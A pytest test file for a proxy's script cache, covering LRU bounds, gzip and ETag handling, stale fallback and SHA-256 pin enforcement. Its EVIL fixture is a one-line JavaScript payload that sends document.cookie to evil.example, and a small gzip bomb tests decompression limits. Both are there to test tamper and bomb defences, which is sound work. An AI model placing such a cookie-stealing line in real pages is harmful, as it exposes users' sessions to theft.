"""The proxy's script cache: memory bound, ETag/304, gzip, and the SHA-256 pin."""

from __future__ import annotations

import gzip
import logging
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from relay.proxy.cache import Script, ScriptCache, TooLarge, decode_body, sri_digest
from tests.proxy.support import Proxied, Upstream, metric, open_proxied

GOOD = b"/* vendor v1 */ window.v = 1;\n" * 40
EVIL = b"/* vendor v2 */ fetch('https://evil.example/' + document.cookie);\n"
PIN = sri_digest(GOOD)

CACHE_RULES = f"""
proxy:
  gtag: {{path: /lib/gtag.js, upstream: "https://www.googletagmanager.com/gtag/js", cache: 1h,
          cookies: ["*"]}}
  pinned: {{path: /lib/pinned.js, upstream: "https://cdn.example/lib.js", cache: 5m, pin: "{PIN}"}}
  small: {{path: /lib/small.js, upstream: "https://cdn.example/small.js", cache: 5m,
           cache_max_bytes: 100}}
"""


class Vendor:
    """Serves ``body`` (gzip-encoded when asked) and counts fetches."""

    def __init__(self) -> None:
        self.body = GOOD
        self.status = 200

    async def __call__(self, request: httpx.Request) -> httpx.Response:
        if self.status != 200:
            return httpx.Response(self.status, content=b"vendor trouble")
        headers = {"content-type": "text/javascript; charset=utf-8", "set-cookie": "v=1"}
        if "gzip" in request.headers.get("accept-encoding", ""):
            return httpx.Response(200, content=gzip.compress(self.body),
                                  headers={**headers, "content-encoding": "gzip"})
        return httpx.Response(200, content=self.body, headers=headers)


@pytest.fixture
def vendor(upstream: Upstream) -> Vendor:
    v = Vendor()
    upstream.handler = v
    return v


@pytest.fixture
async def cached(
    rules_dir: Path, env: dict[str, str], tmp_path: Path, upstream: Upstream, vendor: Vendor
) -> AsyncIterator[Proxied]:
    async with open_proxied(rules_dir, env, tmp_path, upstream, CACHE_RULES) as p:
        yield p


def expire_all(p: Proxied) -> None:
    for key in list(p.proxy.cache._items):
        script = p.proxy.cache.get(key)
        assert script is not None
        script.expires = 0.0


# -- pure parts ------------------------------------------------------------------------


def test_cache_is_bounded_lru() -> None:
    cache = ScriptCache(max_bytes=2000)
    a, b, c = (Script.build(bytes([i]) * 900, "text/javascript", 1.0) for i in range(3))
    assert cache.put("a", a) and cache.put("b", b)
    assert cache.get("a") is a  # a is now the most recently used
    assert cache.put("c", c)
    assert cache.get("b") is None and cache.get("a") is a and cache.get("c") is c
    assert cache.size <= 2000
    assert not cache.put("huge", Script.build(b"x" * 5000, "text/javascript", 1.0))


def test_decode_body_is_bounded() -> None:
    bomb = gzip.compress(b"\0" * 1_000_000)
    with pytest.raises(TooLarge):
        decode_body(bomb, "gzip", 1000)
    assert decode_body(gzip.compress(b"abc"), "gzip", 10) == b"abc"
    assert decode_body(b"abc", "", 10) == b"abc"
    with pytest.raises(ValueError):
        decode_body(b"abc", "br", 10)


def test_script_etags_differ_per_encoding() -> None:
    script = Script.build(GOOD, "text/javascript", 1.0)
    plain, gz = script.etags()
    assert plain != gz and plain.startswith('"') and gzip.decompress(script.gzipped) == GOOD
    assert script.digest == PIN


# -- served through the relay ----------------------------------------------------------


async def test_second_get_comes_from_memory(cached: Proxied) -> None:
    c = cached.client
    headers = {"accept-encoding": "identity", "cookie": "_ga=1", "cf-ipcountry": "US",
               "user-agent": "Mozilla/5.0 Firefox/121.0"}
    first = await c.get("/t/lib/gtag.js?id=G-1", headers=headers)
    second = await c.get("/t/lib/gtag.js?id=G-1", headers=headers)
    assert first.status_code == second.status_code == 200
    assert first.content == second.content == GOOD
    assert len(cached.upstream.requests) == 1
    fill = cached.upstream.last
    assert str(fill.url) == "https://www.googletagmanager.com/gtag/js?id=G-1"
    # a shared fetch carries nothing of the browser's, and sets no cookie for it
    assert "cookie" not in fill.headers and "x-forwarded-for" not in fill.headers
    assert fill.headers["user-agent"].startswith("relay/")
    assert "set-cookie" not in first.headers
    assert first.headers["cache-control"] == "public, max-age=3600"
    assert first.headers["content-type"] == "text/javascript; charset=utf-8"
    assert first.headers["vary"] == "accept-encoding"
    # another query is another script
    await c.get("/t/lib/gtag.js?id=G-2")
    assert len(cached.upstream.requests) == 2


async def test_gzip_etag_304_and_head(cached: Proxied) -> None:
    c = cached.client
    async with c.stream("GET", "/t/lib/gtag.js", headers={"accept-encoding": "gzip"}) as r:
        raw = b"".join([chunk async for chunk in r.aiter_raw()])
    assert r.headers["content-encoding"] == "gzip" and gzip.decompress(raw) == GOOD
    etag = r.headers["etag"]
    again = await c.get("/t/lib/gtag.js", headers={"if-none-match": etag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"]
    weak = await c.get("/t/lib/gtag.js", headers={"if-none-match": f'"nope", W/{etag}'})
    assert weak.status_code == 304
    head = await c.head("/t/lib/gtag.js", headers={"accept-encoding": "identity"})
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-length"] == str(len(GOOD))
    assert len(cached.upstream.requests) == 1
    assert 'relay_proxy_requests_total{route="gtag",status="304"} 2.0' in metric(
        cached.runtime, "relay_proxy_requests_total")


async def test_expired_script_is_fetched_again_and_a_change_logged(
    cached: Proxied, vendor: Vendor, caplog: pytest.LogCaptureFixture
) -> None:
    c = cached.client
    await c.get("/t/lib/gtag.js")
    vendor.body = b"window.v = 2;"
    expire_all(cached)
    with caplog.at_level(logging.INFO, logger="relay"):
        r = await c.get("/t/lib/gtag.js", headers={"accept-encoding": "identity"})
    assert r.content == b"window.v = 2;" and len(cached.upstream.requests) == 2
    assert any("changed" in rec.getMessage() and sri_digest(b"window.v = 2;") in rec.getMessage()
               for rec in caplog.records)
    key = "https://www.googletagmanager.com/gtag/js"
    assert cached.proxy.digests[key] == sri_digest(b"window.v = 2;")


async def test_pinned_script_served_when_it_matches(cached: Proxied) -> None:
    r = await cached.client.get("/t/lib/pinned.js", headers={"accept-encoding": "identity"})
    assert r.status_code == 200 and r.content == GOOD


async def test_pin_mismatch_keeps_the_last_good_copy(
    cached: Proxied, vendor: Vendor, caplog: pytest.LogCaptureFixture
) -> None:
    c = cached.client
    assert (await c.get("/t/lib/pinned.js")).status_code == 200
    vendor.body = EVIL  # the vendor's script changed (or was tampered with)
    expire_all(cached)
    with caplog.at_level(logging.ERROR, logger="relay"):
        r = await c.get("/t/lib/pinned.js", headers={"accept-encoding": "identity"})
    assert r.status_code == 200 and r.content == GOOD
    assert len(cached.upstream.requests) == 2
    assert 'relay_proxy_pin_mismatch_total{route="pinned"} 1.0' in metric(
        cached.runtime, "relay_proxy_pin_mismatch_total")
    assert any("not the pinned" in rec.getMessage() for rec in caplog.records)
    # the refusal is remembered for the cache duration: no refetch on every request
    assert (await c.get("/t/lib/pinned.js")).status_code == 200
    assert len(cached.upstream.requests) == 2


async def test_pin_mismatch_without_a_good_copy_is_refused(
    cached: Proxied, vendor: Vendor
) -> None:
    vendor.body = EVIL
    r = await cached.client.get("/t/lib/pinned.js")
    assert r.status_code == 502 and "pin" in r.json()["error"]
    assert EVIL not in r.content
    assert 'relay_proxy_pin_mismatch_total{route="pinned"} 1.0' in metric(
        cached.runtime, "relay_proxy_pin_mismatch_total")


async def test_a_cached_copy_that_does_not_match_a_new_pin_is_not_served(
    cached: Proxied,
) -> None:
    # As after a reload that added or changed the pin: the copy in memory predates it.
    key = "https://cdn.example/lib.js"
    cached.proxy.cache.put(key, Script.build(EVIL, "text/javascript", 1e12))
    r = await cached.client.get("/t/lib/pinned.js", headers={"accept-encoding": "identity"})
    assert r.status_code == 200 and r.content == GOOD
    assert len(cached.upstream.requests) == 1


async def test_too_large_to_cache_is_streamed_through(cached: Proxied) -> None:
    for _ in range(2):
        r = await cached.client.get("/t/lib/small.js", headers={"accept-encoding": "identity"})
        assert r.status_code == 200 and r.content == GOOD  # over cache_max_bytes: 100
    assert len(cached.upstream.requests) == 2 and len(cached.proxy.cache) == 0


async def test_upstream_trouble(cached: Proxied, vendor: Vendor) -> None:
    c = cached.client
    vendor.status = 404
    r = await c.get("/t/lib/gtag.js")
    assert r.status_code == 404 and r.content == b"vendor trouble"
    vendor.status = 200
    assert (await c.get("/t/lib/gtag.js")).status_code == 200  # a 404 was not cached
    vendor.status = 503
    expire_all(cached)
    stale = await c.get("/t/lib/gtag.js", headers={"accept-encoding": "identity"})
    assert stale.status_code == 200 and stale.content == GOOD  # the last copy, not the 503


async def test_upstream_unreachable_without_a_copy(cached: Proxied, upstream: Upstream) -> None:
    async def down(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused")

    upstream.handler = down
    assert (await cached.client.get("/t/lib/gtag.js")).status_code == 502


async def test_post_on_a_cached_route_is_forwarded(cached: Proxied) -> None:
    await cached.client.post("/t/lib/gtag.js", content=b"x")
    await cached.client.post("/t/lib/gtag.js", content=b"x")
    assert [r.method for r in cached.upstream.requests] == ["POST", "POST"]
